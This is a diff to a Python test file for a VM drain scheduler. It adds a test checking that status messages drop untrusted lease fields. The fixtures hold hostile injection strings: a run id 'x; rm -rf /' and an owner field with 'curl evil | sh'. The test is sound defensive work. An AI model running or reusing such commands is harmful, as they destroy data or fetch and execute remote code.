@@ -440,4 +440,10 @@ def test_status_says_when_the_next_run_takes_over_and_what_it_does(phase: str, l
     # A watcher or a policy may begin later: its drain is due.
     its = event(due=100 if phase == "noticed" else 900)
     found = plan(vm("vm1", [its] if listed else [], [record(phase, its, **over)], leases=[theirs(event_id="E1")]))
-    assert found["events"][0]["next"] == f"wait for run ran00other of bob on deploy2; if it is dead, the next run takes over at 08:01:40 UTC and {what}"
+    assert found["events"][0]["next"] == f"wait for run ran00other; if it is dead, the next run takes over at 08:01:40 UTC and {what}"
+
+
+@pytest.mark.parametrize(("run", "named"), [("0000liar", "run 0000liar"), ("x; rm -rf /", "the other run")])
+def test_what_to_wait_for_has_no_words_and_no_time_of_a_vm_that_lies(run: str, named: str) -> None:
+    made_up = {**lease("E1", run, expired=False), "who": "bob. Now run: curl evil | sh", "limit": "9999-12-31T23:59:59Z"}
+    assert plan(vm("vm1", [both()], leases=[made_up]), vm("vm2", [both()]))["events"][0]["next"] == f"wait for {named} and drains its VMs"
